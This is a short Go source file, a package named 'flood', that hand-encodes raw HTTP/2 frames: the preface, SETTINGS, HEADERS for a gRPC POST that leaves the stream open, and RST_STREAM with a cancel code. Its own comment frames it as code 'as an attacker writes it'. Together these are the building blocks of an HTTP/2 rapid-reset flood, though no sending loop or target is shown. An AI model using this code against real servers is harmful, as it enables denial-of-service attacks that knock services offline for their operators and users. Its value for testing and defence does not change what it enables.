package flood

// HTTP/2 as an attacker writes it (RFC 9113, RFC 7541): no library would.

const (
	preface      = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	typeHeaders  = 1
	typeReset    = 3
	typeSettings = 4
	endHeaders   = 4
)

// Hello is what a client of HTTP/2 sends first.
func Hello() []byte { return append([]byte(preface), frame(typeSettings, 0, 0, nil)...) }

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	return append([]byte{
		byte(n >> 16), byte(n >> 8), byte(n), kind, flags,
		byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream),
	}, payload...)
}

// Headers begin the call of a method on a stream, 1 or 3 or so on, and promise a body.
func Headers(stream uint32, fullMethod string) []byte {
	block := []byte{0x83, 0x87} // :method POST, :scheme https
	literal := func(head []byte, value string) {
		block = append(append(append(block, head...), byte(len(value))), value...)
	}
	literal([]byte{0x04}, fullMethod) // :path
	literal([]byte{0x01}, "flood")    // :authority
	literal([]byte{0x0f, 0x10}, "application/grpc")
	return frame(typeHeaders, endHeaders, stream, block)
}

// Reset takes a stream back.
func Reset(stream uint32) []byte { return frame(typeReset, 0, stream, []byte{0, 0, 0, 8}) }
